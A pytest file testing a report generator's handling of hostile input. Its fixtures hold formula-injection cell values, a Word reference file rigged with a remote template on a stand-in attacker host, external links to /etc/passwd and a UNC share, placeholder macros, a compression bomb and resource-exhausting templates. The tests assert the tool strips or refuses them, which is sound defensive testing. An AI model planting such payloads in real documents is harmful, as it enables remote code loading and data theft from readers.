"""Hostile and unlucky input, second round: formula injection into the Word chart's workbook, a logo on the
built-in cover, full disks, deeply nested Markdown, hostile reference documents and the limits of a render.

Each test reads the real output files (python-docx, the zip parts, pdftotext) or the command's exit status and
messages, as a user would; see docs/security.md for the guarantees they hold.
"""

from __future__ import annotations

import base64
import contextlib
import logging
import os
import re
import resource
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import docx
import pytest
from support.cli import Result, run_in_process
from support.dossier import DossierCopy
from support.paths import REPO_ROOT, VALID_DOSSIER
from support.read import docx_text, normalize, pdf_text

DOSSIER_ID = "north-south"  # the id in tests/dossiers/valid/dossier.yaml
AS_OF = "2025-06-30"
PREVIOUS = b"the previous good file\n"
# A 1 x 1 transparent PNG: a valid logo the size of nothing.
TINY_PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)


def build_args(dossier: Path, out: Path, *more: str) -> list[str]:
    return ["build", "--dossier", str(dossier), "--as-of", AS_OF, "--out", str(out), *more]


def assert_no_traceback(result: Result) -> None:
    assert "Traceback" not in result.out + result.err, result.describe()


def workbook_cells(path: Path) -> tuple[str, str]:
    """(the worksheet XML, the shared strings XML) of the first workbook embedded in a Word file."""
    with zipfile.ZipFile(path) as package:
        names = [name for name in package.namelist() if name.startswith("word/embeddings/") and name.endswith(".xlsx")]
        assert names, f"{path.name} has no embedded workbook (no native chart)"
        with zipfile.ZipFile(package.open(names[0])) as workbook:
            sheet = workbook.read("xl/worksheets/sheet1.xml").decode("utf-8")
            names = workbook.namelist()
            strings = workbook.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in names else ""
            relationships = [name for name in names if name.startswith("xl/worksheets/_rels/")]
            assert not relationships, f"the workbook's sheet has relationships (a hyperlink?): {relationships}"
    return sheet, strings


# ---------------------------------------------------------------- 2: the workbook's text cells are text


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/","Northland")',
        "+1+1 Northland",
        "-2+3 Northland",
        "@SUM(1) Northland",
        "http://evil.example/ Northland",
    ],
)
def test_a_partner_name_is_a_text_cell_in_the_word_charts_workbook(dossier: DossierCopy, tmp_path: Path, name: str):
    """The series names ("{reporter} exports") are text cells whatever they start with: no formula, no link."""
    quoted = name.replace("'", "''")
    dossier.replace("dossier.yaml", "{code: NLD, name: Northland,", f"{{code: NLD, name: '{quoted}',")
    out = tmp_path / "out"
    result = run_in_process(*build_args(dossier.path, out, "--format", "docx", "--audience", "ministry", "--lang", "en"))
    assert result.code == 0, result.describe()
    sheet, strings = workbook_cells(out / DOSSIER_ID / "ministry.en.docx")
    assert "<f>" not in sheet and "<f " not in sheet, "a cell of the workbook is a formula"
    texts = ["".join(item.itertext()) for item in ElementTree.fromstring(strings)] if strings else []
    assert f"{name} exports" in texts, f"the series name is not a text cell of the workbook: {texts}"


# ---------------------------------------------------------------- 4: the built-in cover with a logo


@pytest.fixture
def logo_only(tmp_path: Path) -> Path:
    """A templates folder holding only a logo: the built-in cover draws it."""
    folder = tmp_path / "house"
    folder.mkdir()
    (folder / "logo.png").write_bytes(TINY_PNG)
    return folder


LOGO_TEXT = "Organization logo"  # the documented default (docs/house-styles.md); a house catalog may name itself


@pytest.mark.parametrize("output_format", ["pdf", "docx", "html"])
def test_the_built_in_cover_gives_the_logo_an_alternative_text(logo_only: Path, tmp_path: Path, output_format: str):
    out = tmp_path / "out"
    result = run_in_process(
        *build_args(VALID_DOSSIER, out, "--templates", str(logo_only), "--format", output_format, "--audience", "press")
    )
    assert result.code == 0, result.describe()
    path = out / DOSSIER_ID / f"press.en.{output_format}"
    if output_format == "html":
        match = re.search(r'<img class="logo"[^>]*\balt="([^"]*)"', path.read_text(encoding="utf-8"))
        assert match and match.group(1) == LOGO_TEXT, "the logo has no alternative text"
    elif output_format == "docx":
        header = docx.Document(str(path)).sections[0].header
        descriptions = [element.get("descr") for element in header._element.iter() if element.tag.endswith("}docPr")]
        assert descriptions == [LOGO_TEXT], descriptions  # not python-docx's default, the file's name
    else:  # the tagged-PDF check refuses an image without alternative text: the file exists at all
        assert "Northland" in pdf_text(path)


# ---------------------------------------------------------------- 5: all files or none on a full disk


def run_with_file_size_limit(limit: int, *args: str) -> Result:
    """`reports ARGS` in a new process that may write no file larger than `limit` bytes: the kernel refuses the
    write (EFBIG) as it refuses one on a full disk (ENOSPC), a real OS error and no simulation."""

    def limit_file_size() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    completed = subprocess.run(
        [sys.executable, "-m", "reports", *args], cwd=REPO_ROOT, capture_output=True, text=True, timeout=300,
        preexec_fn=limit_file_size,
    )  # fmt: skip
    return Result(tuple(args), completed.returncode, completed.stdout, completed.stderr)


def size_between_html_and_pdf(tmp_path: Path) -> int:
    """A file-size limit that the press HTML files fit under and its PDFs do not, measured on a build without one."""
    probe = tmp_path / "probe"
    result = run_in_process(*build_args(VALID_DOSSIER, probe, "--audience", "press", "--format", "html", "--format", "pdf"))
    assert result.code == 0, result.describe()
    html = max(path.stat().st_size for path in probe.rglob("*.html"))
    pdf = min(path.stat().st_size for path in probe.rglob("*.pdf"))
    assert html < pdf, "the test needs PDFs larger than the HTML files"
    return (html + pdf) // 2


def snapshot(out: Path) -> dict[Path, bytes]:
    return {path: path.read_bytes() for path in sorted(out.rglob("*")) if path.is_file()}


def test_a_write_failure_leaves_every_previous_file_and_says_which_path_in_one_line(tmp_path: Path):
    """The HTML files fit, the PDF does not: nothing is replaced, and the one error line names the PDF."""
    out = tmp_path / "out"
    names = ("press.en.html", "press.en.pdf", "press.ru.html", "press.ru.pdf")
    for name in names:
        (out / DOSSIER_ID).mkdir(parents=True, exist_ok=True)
        (out / DOSSIER_ID / name).write_bytes(PREVIOUS)
    before = snapshot(out)
    result = run_with_file_size_limit(
        size_between_html_and_pdf(tmp_path),
        *build_args(VALID_DOSSIER, out, "--audience", "press", "--format", "html", "--format", "pdf"),
    )
    assert result.code == 1, result.describe()
    assert_no_traceback(result)
    lines = result.err.strip().splitlines()
    assert len(lines) == 1, result.describe()
    assert re.match(rf"{re.escape(str(out / DOSSIER_ID))}/press\.(en|ru)\.pdf: write: File too large", lines[0]), lines
    assert snapshot(out) == before, "a failed build replaced some of the files"
    assert not list(out.rglob("*.tmp")), "a temporary file was left behind"


def test_a_run_that_cannot_write_never_says_nothing_written_when_something_was(tmp_path: Path):
    jobs = tmp_path / "jobs.yaml"
    out = tmp_path / "out"
    jobs.write_text(
        f"jobs:\n  - name: north\n    dossier: {VALID_DOSSIER}\n    out: {out}\n    audiences: [press]\n"
        "    langs: [en]\n    formats: [html, pdf]\n    schedule: \"@daily\"\n",
        encoding="utf-8",
    )
    limit = size_between_html_and_pdf(tmp_path)
    result = run_with_file_size_limit(limit, "run", "--jobs", str(jobs), "--workers", "1", "--now", "2025-06-30T08:00")
    assert result.code == 1, result.describe()
    assert_no_traceback(result)
    assert "press.en.pdf: write: File too large" in result.err, result.describe()
    assert not (out / DOSSIER_ID / "press.en.html").exists(), "one of the job's files was written, the other not"
    assert not list(out.rglob("*.tmp")), "a temporary file was left behind"


def test_out_that_is_a_regular_file_is_a_bad_argument(tmp_path: Path):
    out = tmp_path / "out"
    out.write_text("not a folder\n", encoding="utf-8")
    result = run_in_process(*build_args(VALID_DOSSIER, out, "--audience", "press", "--format", "html"))
    assert result.code == 2, result.describe()
    assert_no_traceback(result)
    assert f"{out}: --out: " in result.err, result.describe()


# ---------------------------------------------------------------- 7: deep Markdown lists never drop text


def nested_list(levels: int) -> str:
    return "".join(f"{'  ' * level}- level {level + 1} item\n" for level in range(levels))


def test_a_list_nested_too_deeply_is_reported_with_its_line_not_dropped(dossier: DossierCopy):
    body_line = len(dossier.read("areas/trade.md").splitlines()) + 2  # after a blank line
    dossier.write("areas/trade.md", dossier.read("areas/trade.md") + "\n" + nested_list(12) + "\nTAIL SENTENCE.\n")
    result = run_in_process("validate", "--dossier", str(dossier.path))
    assert result.code == 2, result.describe()
    assert_no_traceback(result)
    expected = f"{dossier.path / 'areas' / 'trade.md'}:{body_line + 9}: body: "
    assert any(line.startswith(expected) for line in result.err.splitlines()), result.describe()


@pytest.mark.parametrize("output_format", ["pdf", "docx", "html"])
def test_a_list_as_deep_as_allowed_keeps_every_item(dossier: DossierCopy, tmp_path: Path, output_format: str):
    dossier.write("areas/trade.md", dossier.read("areas/trade.md") + "\n" + nested_list(9) + "\nTAIL SENTENCE.\n")
    out = tmp_path / "out"
    result = run_in_process(*build_args(dossier.path, out, "--audience", "ministry", "--format", output_format, "--lang", "en"))
    assert result.code == 0, result.describe()
    path = out / DOSSIER_ID / f"ministry.en.{output_format}"
    text = {"pdf": pdf_text, "docx": docx_text, "html": lambda p: p.read_text(encoding="utf-8")}[output_format](path)
    text = normalize(text)  # a figure and the word after it are joined by a no-break space
    for level in range(1, 10):
        assert f"level {level} item" in text
    assert "TAIL SENTENCE." in text


# ---------------------------------------------------------------- 1: a hostile reference.docx lends only its styles

HOUSE_REFERENCE = REPO_ROOT / "examples" / "house-style" / "reference.docx"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
R_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rewritten(source: Path, target: Path, changes: dict[str, bytes | None]) -> None:
    """A copy of the Word package `source` with parts replaced, added (bytes) or removed (None)."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            if item.filename not in changes:
                new.writestr(item, old.read(item.filename))
        for name, content in changes.items():
            if content is not None:
                new.writestr(name, content)


def with_relationship(rels: bytes, relationship: str) -> bytes:
    return rels.replace(b"</Relationships>", relationship.encode() + b"</Relationships>")


def attached_template(old: zipfile.ZipFile) -> dict[str, bytes | None]:
    settings = old.read("word/settings.xml")
    settings = re.sub(rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdEvil"/>', settings, count=1)
    if b'xmlns:r="' not in settings[:2000]:
        settings = settings.replace(b"<w:settings ", f'<w:settings xmlns:r="{R_TYPE}" '.encode(), 1)
    rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS}">'
        f'<Relationship Id="rIdEvil" Type="{R_TYPE}/attachedTemplate" Target="http://evil.example/evil.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    return {"word/settings.xml": settings, "word/_rels/settings.xml.rels": rels.encode()}


def external_links(old: zipfile.ZipFile) -> dict[str, bytes | None]:
    rels = old.read("word/_rels/document.xml.rels")
    for index, target in enumerate(("file:///etc/passwd", "\\\\evil.example\\share\\x.docx")):
        rels = with_relationship(
            rels, f'<Relationship Id="rIdX{index}" Type="{R_TYPE}/oleObject" Target="{target}" TargetMode="External"/>'
        )
    return {"word/_rels/document.xml.rels": rels}


def macros_and_objects(old: zipfile.ZipFile) -> dict[str, bytes | None]:
    types = old.read("[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>',
    )
    rels = with_relationship(
        old.read("word/_rels/document.xml.rels"),
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/>'
        f'<Relationship Id="rIdOle" Type="{R_TYPE}/oleObject" Target="embeddings/oleObject1.bin"/>',
    )
    return {
        "[Content_Types].xml": types,
        "word/_rels/document.xml.rels": rels,
        "word/vbaProject.bin": b"EVIL-MACRO-PROJECT",
        "word/embeddings/oleObject1.bin": b"EVIL-OLE-OBJECT",
    }


@pytest.mark.parametrize("attack", [attached_template, external_links, macros_and_objects], ids=lambda f: f.__name__)
def test_a_hostile_reference_lends_its_styles_and_nothing_else(tmp_path: Path, attack, caplog):
    house = tmp_path / "house"
    house.mkdir()
    with zipfile.ZipFile(HOUSE_REFERENCE) as old:
        changes = attack(old)
    rewritten(HOUSE_REFERENCE, house / "reference.docx", changes)
    out = tmp_path / "out"
    with caplog.at_level(logging.WARNING, logger="reports.renderers.docx.reference"):
        result = run_in_process(
            *build_args(VALID_DOSSIER, out, "--templates", str(house), "--format", "docx", "--audience", "press")
        )
    assert result.code == 0, result.describe()
    assert "reference.docx: only its styles" in caplog.text, "nothing says what was left out of the reference"
    path = out / DOSSIER_ID / "press.en.docx"
    with zipfile.ZipFile(path) as package:
        names = package.namelist()
        assert not [name for name in names if "vba" in name.lower() or name.startswith("word/embeddings/oleObject")]
        assert b"macroEnabled" not in package.read("[Content_Types].xml")
        assert b"attachedTemplate" not in package.read("word/settings.xml")
        for name in (name for name in names if name.endswith(".rels")):
            rels = package.read(name).decode("utf-8")
            for planted in ("evil.example", "/etc/passwd", "attachedTemplate", "oleObject", "vbaProject"):
                assert planted not in rels, f"{name} still points at {planted}"
    styles = {style.name for style in docx.Document(str(path)).styles}
    assert "Light Grid Accent 1" in styles  # the styles did come through


def test_a_reference_that_unpacks_to_more_than_the_limit_is_refused(tmp_path: Path):
    house = tmp_path / "house"
    house.mkdir()
    with zipfile.ZipFile(HOUSE_REFERENCE) as old:
        styles = old.read("word/styles.xml")
    padding = b"<!--" + b" " * (6 * 1024 * 1024) + b"-->"  # compresses to a few KB, unpacks past 5 MiB
    rewritten(HOUSE_REFERENCE, house / "reference.docx", {"word/styles.xml": styles.replace(b"?>", b"?>" + padding, 1)})
    result = run_in_process(*build_args(VALID_DOSSIER, tmp_path / "out", "--templates", str(house), "--format", "docx"))
    assert result.code == 2, result.describe()
    assert_no_traceback(result)
    assert f"{house / 'reference.docx'}: word/styles.xml: is larger than" in result.err, result.describe()
    assert (house / "reference.docx").stat().st_size < 1024 * 1024


# ---------------------------------------------------------------- 8: exit 2 with file and field, never a traceback

CATALOG_HEADER = 'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Plural-Forms: {forms}\\n"\n\n'


@pytest.mark.parametrize(
    ("forms", "message", "line", "field"),
    [
        ("nplurals=2; plural=(n/0);", "Key figures", 4, "Plural-Forms"),
        ("nplurals=2; plural=(n%0);", "Key figures", 4, "Plural-Forms"),
        ("nplurals=2; plural=((n != 1);", "Key figures", 4, "Plural-Forms"),
        ("nplurals=2; plural=" + "(" * 600 + "n" + ")" * 600 + ";", "Key figures", 4, "Plural-Forms"),
        ("nplurals=99999999999; plural=(n != 1);", "Key figures", 4, "Plural-Forms"),
        ("nplurals=2; plural=(n != 1);", "Key {nosuch}", 6, "msgstr"),
        ("nplurals=2; plural=(n != 1);", "Key {0}", 6, "msgstr"),
        ("nplurals=2; plural=(n != 1);", "Key %(nosuch)s", 6, "msgstr"),
        ("nplurals=2; plural=(n != 1);", "{reporter:>900000000}", 6, "msgstr"),
    ],
)
def test_a_broken_house_catalog_is_named_with_its_line(tmp_path: Path, forms: str, message: str, line: int, field: str):
    catalog = tmp_path / "house" / "locale" / "en" / "LC_MESSAGES" / "reports.po"
    catalog.parent.mkdir(parents=True)
    catalog.write_text(CATALOG_HEADER.format(forms=forms) + f'msgid "Key figures"\nmsgstr "{message}"\n', encoding="utf-8")
    result = run_in_process(
        *build_args(VALID_DOSSIER, tmp_path / "out", "--templates", str(tmp_path / "house"), "--format", "html"), seconds=30
    )
    assert result.code == 2, result.describe()
    assert_no_traceback(result)
    assert f"{catalog}:{line}: {field}: " in result.err, result.describe()


@pytest.mark.parametrize(
    "content",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>',
        b"<!doctype html><html><body>not a picture</body></html>",
        TINY_PNG[:40],  # cut short
        TINY_PNG[:16] + (30_000).to_bytes(4, "big") * 2 + TINY_PNG[24:],  # 30,000 x 30,000 pixels
    ],
    ids=["svg", "html", "truncated", "huge"],
)
@pytest.mark.parametrize("output_format", ["docx", "html"])
def test_a_logo_that_is_not_a_whole_small_png_is_refused_in_every_format(tmp_path: Path, content: bytes, output_format: str):
    house = tmp_path / "house"
    house.mkdir()
    (house / "logo.png").write_bytes(content)
    result = run_in_process(*build_args(VALID_DOSSIER, tmp_path / "out", "--templates", str(house), "--format", output_format))
    assert result.code == 2, result.describe()
    assert_no_traceback(result)
    assert f"{house / 'logo.png'}: logo: " in result.err, result.describe()


def test_elements_nested_thousands_deep_in_a_template_are_exit_2(tmp_path: Path):
    house = tmp_path / "house"
    house.mkdir()
    (house / "briefing.html.j2").write_text(
        '{% extends "base.html.j2" %}{% block cover %}' + "<div>" * 3000 + "deep" + "</div>" * 3000 + "{% endblock %}",
        encoding="utf-8",
    )
    result = run_in_process(
        *build_args(VALID_DOSSIER, tmp_path / "out", "--templates", str(house), "--format", "pdf", "--audience", "press")
    )
    assert result.code == 2, result.describe()
    assert_no_traceback(result)
    assert f"{house}: pdf: " in result.err and "nested too deeply" in result.err, result.describe()


@pytest.mark.parametrize("value", ["1E+999999", "9" * 5000])
def test_an_imported_value_beyond_any_trade_figure_is_exit_2(dossier: DossierCopy, tmp_path: Path, value: str):
    source = (REPO_ROOT / "examples" / "imports" / "DOT_kaz_uzb_timeSeries.csv").read_text(encoding="utf-8")
    download = tmp_path / "imf.csv"
    download.write_text(source.replace("3020000000", value, 1), encoding="utf-8")
    kz = tmp_path / "kz-uz"
    shutil.copytree(REPO_ROOT / "data" / "kz-uz", kz)
    result = run_in_process("import", "imf", str(download), "--dossier", str(kz), "--dry-run")
    assert result.code == 2, result.describe()
    assert_no_traceback(result)
    assert f"{download}:2: 2021: " in result.err and "larger than any trade value" in result.err, result.describe()


# ---------------------------------------------------------------- 6: killed runs leave nothing running or behind


def children(pid: int) -> set[int]:
    try:
        return {int(child) for child in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()}
    except OSError:
        return set()


def alive(pid: int) -> bool:
    """Running, not a zombie waiting for whoever adopted it to reap it."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except (OSError, IndexError):
        return False


@pytest.mark.skipif(not Path("/proc/self/task").is_dir() or sys.platform != "linux", reason="needs Linux's /proc")
def test_workers_end_when_their_run_is_killed(tmp_path: Path):
    jobs = tmp_path / "jobs.yaml"
    jobs.write_text(
        f"jobs:\n  - name: north\n    dossier: {VALID_DOSSIER}\n    out: {tmp_path / 'out'}\n"
        '    langs: [en, ru]\n    formats: [pdf]\n    schedule: "@daily"\n',
        encoding="utf-8",
    )
    run = subprocess.Popen(
        [sys.executable, "-m", "reports", "run", "--jobs", str(jobs), "--workers", "2", "--now", "2025-06-30T08:00"],
        cwd=REPO_ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        workers: set[int] = set()
        for _ in range(600):  # until both workers run (at most a minute)
            workers = children(run.pid)
            if len(workers) >= 2 or run.poll() is not None:
                break
            time.sleep(0.1)
        assert len(workers) >= 2, "the run did not start two workers"
        run.send_signal(signal.SIGKILL)
        run.wait()
        for _ in range(300):
            if not any(alive(pid) for pid in workers):
                break
            time.sleep(0.1)
        assert not [pid for pid in workers if alive(pid)], "workers outlived the run that started them"
    finally:
        for pid in [run.pid, *workers]:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)


def test_the_next_build_removes_a_killed_builds_temporary_files(tmp_path: Path):
    out = tmp_path / "out"
    folder = out / DOSSIER_ID
    folder.mkdir(parents=True)
    stale, fresh = folder / ".press.en.html.k1ll3d00.tmp", folder / ".press.en.html.wr1t1ng0.tmp"
    stale.write_bytes(b"half a file")
    fresh.write_bytes(b"another build writing now")
    an_hour_ago = time.time() - 3600
    os.utime(stale, (an_hour_ago, an_hour_ago))
    result = run_in_process(*build_args(VALID_DOSSIER, out, "--audience", "press", "--format", "html"))
    assert result.code == 0, result.describe()
    assert not stale.exists(), "the stale temporary file of a killed build is still there"
    assert fresh.exists(), "a temporary file another build is writing at this moment was removed"


# ---------------------------------------------------------------- 9: smaller


def test_a_template_that_changes_the_briefing_is_refused_and_nothing_is_written(tmp_path: Path):
    """Every format is drawn from one briefing model, so no template may change it: emptying the labels in the HTML
    template is a template error (exit 2, its file and line), and the Word file built with it is not written."""
    house = tmp_path / "house"
    house.mkdir()
    (house / "briefing.html.j2").write_text(
        '{% extends "base.html.j2" %}{% block cover %}{{ briefing.labels.clear() or "" }}{{ super() }}{% endblock %}',
        encoding="utf-8",
    )
    together = tmp_path / "together"
    args = ("--templates", str(house), "--audience", "ministry", "--lang", "ru")
    result = run_in_process(*build_args(VALID_DOSSIER, together, *args, "--format", "html", "--format", "docx"))
    assert result.code == 2, result.describe()
    assert f"{house / 'briefing.html.j2'}:1: template: " in result.err and "clear" in result.err, result.err
    assert not (together / DOSSIER_ID).exists()


def test_a_word_wider_than_the_page_breaks_instead_of_running_off_it(dossier: DossierCopy, tmp_path: Path):
    import pdfplumber

    word = "W" + "x" * 3000 + "END"
    dossier.write("areas/trade.md", dossier.read("areas/trade.md") + f"\n{word}\n")
    out = tmp_path / "out"
    result = run_in_process(*build_args(dossier.path, out, "--audience", "ministry", "--format", "pdf", "--lang", "en"))
    assert result.code == 0, result.describe()
    with pdfplumber.open(out / DOSSIER_ID / "ministry.en.pdf") as pdf:
        outside = [char["text"] for page in pdf.pages for char in page.chars if char["x1"] > page.width + 0.5]
        text = "".join(page.extract_text() or "" for page in pdf.pages)
    assert not outside, f"{len(outside)} characters run off the page"
    assert "END" in text and text.count("x") >= 3000


# ---------------------------------------------------------------- 3: a render's time and memory are limited

HOSTILE_COVERS = {
    "two nested range(100000) loops": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    "lipsum(2000000)": "{{ lipsum(2000000) }}",
    "a string of 3 GB": '{% set s = "x" * 3000000000 %}{{ s | length }}',
}


@pytest.mark.parametrize("cover", HOSTILE_COVERS.values(), ids=HOSTILE_COVERS.keys())
@pytest.mark.parametrize("output_format", ["html", "pdf"])
def test_a_template_that_takes_too_long_or_too_much_memory_is_stopped(tmp_path: Path, cover: str, output_format: str):
    house = tmp_path / "house"
    house.mkdir()
    (house / "briefing.html.j2").write_text(
        '{% extends "base.html.j2" %}{% block cover %}' + cover + "{% endblock %}", encoding="utf-8"
    )
    out = tmp_path / "out"
    limits = ("--time-limit", "10", "--memory-limit", "1536")
    args = build_args(VALID_DOSSIER, out, "--templates", str(house), "--format", output_format, "--audience", "press", *limits)
    result = run_in_process(*args, seconds=50)
    assert result.code == 2, result.describe()
    assert_no_traceback(result)
    assert re.search(rf"^press\.en\.{output_format}: (time|memory) limit: ", result.err, re.MULTILINE), result.describe()
    assert not out.exists() or not list(out.rglob("*.*")), "a file was written"


def test_an_import_that_cannot_write_is_one_line_and_changes_nothing(tmp_path: Path):
    kz = tmp_path / "kz-uz"
    shutil.copytree(REPO_ROOT / "data" / "kz-uz", kz)
    before = snapshot(kz)
    download = REPO_ROOT / "examples" / "imports" / "DOT_kaz_uzb_timeSeries.csv"
    result = run_with_file_size_limit(1000, "import", "imf", str(download), "--dossier", str(kz))
    assert result.code == 1, result.describe()
    assert_no_traceback(result)
    # the import first says which translations of replaced rows it drops, then the one line of the failure
    assert re.fullmatch(rf"{re.escape(str(kz))}: write: File too large[^\n]*", result.err.splitlines()[-1]), result.describe()
    assert snapshot(kz) == before


@pytest.mark.parametrize("date", ["0001-01-01", "9999-12"])
def test_an_event_dated_outside_the_calendar_of_relations_is_exit_2(dossier: DossierCopy, tmp_path: Path, date: str):
    """A pack before such an event counted years back from it, past year 1 (a traceback)."""
    dossier.replace("events.csv", "first-visit,2019-05-02,2019-05-03,", f"first-visit,{date},,")
    result = run_in_process(
        "brief", "--event", "first-visit", "--dossier", str(dossier.path), "--out", str(tmp_path / "out"), "--format", "html"
    )
    assert result.code == 2, result.describe()
    assert_no_traceback(result)
    assert f"{dossier.path / 'events.csv'}:2: date: '{date}' is not a plausible date" in result.err, result.describe()
